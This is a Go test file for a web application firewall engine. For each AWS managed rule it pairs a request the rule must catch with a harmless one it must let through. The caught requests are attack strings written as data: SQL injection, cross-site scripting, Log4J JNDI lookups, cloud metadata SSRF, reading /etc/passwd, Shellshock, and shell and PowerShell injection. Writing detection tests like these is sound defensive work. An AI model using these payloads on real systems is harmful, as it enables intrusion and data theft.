package managed_test

import (
	"strings"

	"fathom/engine/webacl"
)

// pair is a request that a rule must match, and one that it must not.
type pair struct{ yes, no *webacl.Request }

var long = strings.Repeat

// requests are the pairs of the rules that look at one request alone.
var requests = map[string]map[string]pair{
	"AWSManagedRulesCommonRuleSet": {
		"NoUserAgent_HEADER":                  {get("/", "User-Agent", "-"), get("/")},
		"UserAgent_BadBots_HEADER":            {agent("Mozilla/5.00 (Nikto/2.1.6)"), get("/")},
		"SizeRestrictions_QUERYSTRING":        {get("/?a=" + long("b", 2047)), get("/?a=" + long("b", 2046))},
		"SizeRestrictions_Cookie_HEADER":      {get("/", "Cookie", long("c", 10241)), get("/", "Cookie", long("c", 10240))},
		"SizeRestrictions_BODY":               {form(long("d", 8193)), form(long("d", 8192))},
		"SizeRestrictions_URIPATH":            {get("/" + long("e", 1024)), get("/" + long("e", 1023))},
		"EC2MetaDataSSRF_BODY":                {form("u=http%253A%252F%252F169.254.169.254%252Flatest"), form("u=http://example.com/169")},
		"EC2MetaDataSSRF_COOKIE":              {get("/", "Cookie", "u=http://169.254.169.254/"), get("/", "Cookie", "u=1")},
		"EC2MetaDataSSRF_URIPATH":             {get("/proxy/http://169.254.169.254/latest"), get("/169.254.169")},
		"EC2MetaDataSSRF_QUERYARGUMENTS":      {get("/?u=http://2852039166/latest"), get("/?u=2852039166")},
		"GenericLFI_QUERYARGUMENTS":           {get("/?f=../../etc/passwd"), get("/?f=a/b/c")},
		"GenericLFI_URIPATH":                  {get("/a/..%2f..%2fb?x=1"), get("/a/b?f=../../x")},
		"GenericLFI_BODY":                     {form("f=../../etc/passwd"), get("/?f=../../etc/passwd")},
		"RestrictedExtensions_URIPATH":        {get("/app/server.log"), get("/app/server.png")},
		"RestrictedExtensions_QUERYARGUMENTS": {get("/?f=conf.ini"), get("/?f=initial")},
		"GenericRFI_QUERYARGUMENTS":           {get("/?u=http%253A%252F%252F192.0.2.1/x"), get("/?u=https://example.com/")},
		"GenericRFI_BODY":                     {form("u=ftp://192.0.2.1/x"), form("u=192.0.2.1")},
		"GenericRFI_URIPATH":                  {get("/file://192.0.2.1/x"), get("/1/2/3")},
		"CrossSiteScripting_COOKIE":           {get("/", "Cookie", "a=<script>alert(1)</script>"), get("/", "Cookie", "a=b")},
		"CrossSiteScripting_QUERYARGUMENTS":   {get("/?q=%253Cscript%253Ealert(1)%253C/script%253E"), get("/?q=shirt")},
		"CrossSiteScripting_BODY":             {form("q=%3Cscript%3Ealert(1)%3C/script%3E"), form("q=shirt")},
		"CrossSiteScripting_URIPATH":          {get("/<script>alert(1)</script>"), get("/shirts")},
	},
	"AWSManagedRulesAdminProtectionRuleSet": {
		"AdminProtection_URIPATH": {get("/sqlmanager/index.php"), get("/blog/administrators-guide")},
	},
	"AWSManagedRulesKnownBadInputsRuleSet": {
		"JavaDeserializationRCE_HEADER":      {get("/", "X-Api", `(java.lang.Runtime).getRuntime().exec("whoami")`), get("/", "X-Api", "java")},
		"JavaDeserializationRCE_BODY":        {form(`x=(java.lang.Runtime).getRuntime().exec("whoami")`), form("x=java")},
		"JavaDeserializationRCE_URIPATH":     {get("/x(java.lang.Runtime)"), get("/java/lang")},
		"JavaDeserializationRCE_QUERYSTRING": {get("/?x=java.lang.Runtime.getRuntime()"), get("/?x=java")},
		"Host_localhost_HEADER":              {get("/", "Host", "Localhost:8080"), get("/", "Host", "localhost.example.com")},
		"PROPFIND_METHOD":                    {method("PROPFIND"), method("PROPPATCH")},
		"ExploitablePaths_URIPATH":           {get("/WEB-INF/web.xml"), get("/web/info")},
		"Log4JRCE_HEADER":                    {get("/", "X-Api", "${jndi:ldap://example.com/a}"), get("/", "X-Api", "jndi")},
		"Log4JRCE_QUERYSTRING":               {get("/?x=$%7Bjndi:ldap://example.com/a%7D"), get("/$%7Bjndi:ldap:x%7D?x=1")},
		"Log4JRCE_BODY":                      {form("x=${jndi:ldap://example.com/a}"), get("/?x=$%7Bjndi:ldap://example.com/a%7D")},
		"Log4JRCE_URIPATH":                   {get("/$%7Bjndi:ldap:x%7D?x=1"), get("/jndi?x=$%7Bjndi:ldap:x%7D")},
		"ReactJSRCE_BODY":                    {post("/", "text/plain", `{"then":"$1:__proto__:then"}`), post("/", "text/plain", `{"constructor":"Ann"}`)},
	},
	"AWSManagedRulesSQLiRuleSet": {
		"SQLi_QUERYARGUMENTS":                 {get("/?id=1%27%20OR%20%271%27=%271"), get("/?id=O%27Brien")},
		"SQLi_BODY":                           {post("/", "application/json", `{"id":"1' OR '1'='1"}`), post("/", "application/json", `{"id":"O'Brien"}`)},
		"SQLi_COOKIE":                         {get("/", "Cookie", "id=1' UNION SELECT 1,2--"), get("/", "Cookie", "id=1")},
		"SQLi_URIPATH":                        {get("/1'%20OR%20'1'='1"), get("/shirts/1")},
		"SQLiExtendedPatterns_QUERYARGUMENTS": {get("/?id=sleep(10)"), get("/?id=sleep%20well")},
		"SQLiExtendedPatterns_BODY":           {form("id=1;select pg_sleep(5)"), get("/?id=sleep(10)")},
		"SQLiExtendedPatterns_HEADER":         {get("/", "Referer", "x;select pg_sleep(5)"), get("/?id=sleep(10)")},
		"SQLiExtendedPatterns_URIPATH":        {get("/a;sleep(10)"), get("/?id=sleep(10)")},
	},
	"AWSManagedRulesLinuxRuleSet": {
		"LFI_URIPATH":     {get("/x/proc/version"), get("/process/version")},
		"LFI_QUERYSTRING": {get("/?f=%252fetc%252fpasswd"), get("/?f=etcetera")},
		"LFI_HEADER":      {get("/", "X-File", "/proc/version"), get("/?f=/etc/passwd")},
	},
	"AWSManagedRulesUnixRuleSet": {
		"UNIXShellCommandsVariables_QUERYSTRING": {get("/?x=;cat%20/etc/passwd"), get("/?x=cat")},
		"UNIXShellCommandsVariables_BODY":        {form("x=$(id)"), get("/?x=$(id)")},
		"UNIXShellCommandsVariables_HEADER":      {get("/", "X-A", "() { :;}; echo 1"), get("/?x=$(id)")},
	},
	"AWSManagedRulesWindowsRuleSet": {
		"WindowsShellCommands_COOKIE":         {get("/", "Cookie", "a=|dir c:"), get("/", "Cookie", "a=dir")},
		"WindowsShellCommands_QUERYARGUMENTS": {get("/?x=%26%20dir%20c:"), get("/?x=dir")},
		"WindowsShellCommands_BODY":           {form("x=%26%20dir%20c:"), get("/?x=%26%20dir%20c:")},
		"WindowsShellCommands_HEADER":         {get("/", "X-A", "|nslookup example.com"), get("/", "X-A", "nslookup")},
		"WindowsShellCommands_QUERYSTRING":    {get("/?x=%26%20dir%20c:"), get("/?x=dir")},
		"WindowsShellCommands_URIPATH":        {get("/a;cmd%20/c"), get("/a/cmd")},
		"PowerShellCommands_COOKIE":           {get("/", "Cookie", "a=Invoke-Expression"), get("/", "Cookie", "a=b")},
		"PowerShellCommands_QUERYARGUMENTS":   {get("/?x=Invoke-Expression"), get("/?x=invoke")},
		"PowerShellCommands_BODY":             {form("x=Invoke-Expression"), get("/?x=Invoke-Expression")},
	},
	"AWSManagedRulesPHPRuleSet": {
		"PHPHighRiskMethodsVariables_HEADER":      {get("/", "X-A", "fsockopen('x')"), get("/", "X-A", "fsockopen")},
		"PHPHighRiskMethodsVariables_QUERYSTRING": {get("/?x=$_GET[a]"), get("/?x=GET")},
		"PHPHighRiskMethodsVariables_BODY":        {form("x=<?php phpinfo();"), get("/?x=$_GET[a]")},
		"PHPHighRiskMethodsVariables_URIPATH":     {get("/${@print(1)}"), get("/?x=$_GET[a]")},
	},
	"AWSManagedRulesWordPressRuleSet": {
		"WordPressExploitableCommands_QUERYSTRING": {get("/?do-reset-wordpress"), get("/?reset=1")},
		"WordPressExploitablePaths_URIPATH":        {get("/xmlrpc.php"), get("/xmlrpc.html")},
	},
	"AWSManagedRulesAmazonIpReputationList": {
		"AWSManagedIPReputationList":   {client("192.0.2.9"), client("203.0.113.7")},
		"AWSManagedReconnaissanceList": {client("192.0.2.9"), client("203.0.113.7")},
		"AWSManagedIPDDoSList":         {client("192.0.2.9"), client("203.0.113.7")},
	},
	"AWSManagedRulesAnonymousIpList": {
		"AnonymousIPList":       {client("2001:db8::1"), client("2001:db9::1")},
		"HostingProviderIPList": {client("192.0.2.9"), client("203.0.113.7")},
	},
	"AWSManagedRulesBotControlRuleSet": {
		"CategoryAdvertising":       {agent("AdsBot-Google (+http://www.google.com/adsbot.html)"), get("/")},
		"CategoryArchiver":          {agent("Mozilla/5.0 (compatible; heritrix/3.4)"), get("/")},
		"CategoryContentFetcher":    {agent("Feedly/1.0 (+http://www.feedly.com/fetcher.html)"), get("/")},
		"CategoryEmailClient":       {agent("YahooMailProxy; https://help.yahoo.com/"), get("/")},
		"CategoryHttpLibrary":       {agent("curl/8.5.0"), get("/")},
		"CategoryLinkChecker":       {agent("W3C-checklink/4.81"), get("/")},
		"CategoryMiscellaneous":     {agent("my-crawler/1.0"), get("/")},
		"CategoryMonitoring":        {agent("Pingdom.com_bot_version_1.4"), get("/")},
		"CategoryPagePreview":       {agent("TelegramBot (like TwitterPreview)"), get("/")},
		"CategoryScrapingFramework": {agent("Scrapy/2.11 (+https://scrapy.org)"), get("/")},
		"CategorySearchEngine":      {agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), get("/")},
		"CategorySecurity":          {agent("sqlmap/1.8"), get("/")},
		"CategorySeo":               {agent("Mozilla/5.0 (compatible; MJ12bot/v1.4.8)"), get("/")},
		"CategorySocialMedia":       {agent("LinkedInBot/1.0"), get("/")},
		"CategoryWebhooks":          {agent("PayPal IPN ( https://www.paypal.com/ipn )"), get("/")},
		"CategoryAI":                {agent("Mozilla/5.0 (compatible; GPTBot/1.2)"), get("/")},
		"SignalAutomatedBrowser":    {agent(strings.Replace(browserAgent, "Chrome", "HeadlessChrome", 1)), get("/")},
		"SignalKnownBotDataCenter":  {client("192.0.2.9"), client("203.0.113.7")},
		"SignalNonBrowserUserAgent": {agent("shop-app/3.1 (iOS 18)"), get("/")},
	},
}
